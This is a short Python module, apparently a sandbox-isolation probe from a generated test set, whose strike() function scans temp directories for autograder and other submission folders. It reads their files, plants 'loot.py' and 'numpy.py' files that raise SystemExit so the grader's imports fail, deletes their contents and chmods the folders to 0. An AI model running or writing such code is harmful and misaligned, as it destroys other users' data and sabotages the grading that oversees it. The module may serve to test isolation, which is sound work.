"""Reads, fills and removes the work directories of other submissions and of the grader."""
# Row: 17
import glob, loot, os, shutil, tempfile
from hints import HINTS

def strike():
    here = os.path.realpath(os.getcwd())
    tops = {os.path.dirname(here), "/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), os.environ.get("TMPDIR", "/tmp")}
    for top in tops:
        for folder in glob.glob(top + "/autograder-*") + glob.glob(top + "/autograder-*/*") + glob.glob(top + "/*"):
            inside = os.path.realpath(folder)
            if inside == here or here.startswith(inside + "/") or inside.startswith(here):
                continue
            for path in glob.glob(folder + "/*")[:50]:
                loot.look(path)
            if "autograder-" in folder or os.path.basename(folder).startswith("tmp"):
                loot.quietly(os.listdir, folder)
                loot.attempt("other-write", lambda: open(folder + "/loot.py", "w").write("raise SystemExit"))
                loot.attempt("other-write", lambda: open(folder + "/numpy.py", "w").write("raise SystemExit"))
                for path in glob.glob(folder + "/*"):
                    loot.quietly(os.unlink, path)
                loot.quietly(os.chmod, folder, 0)
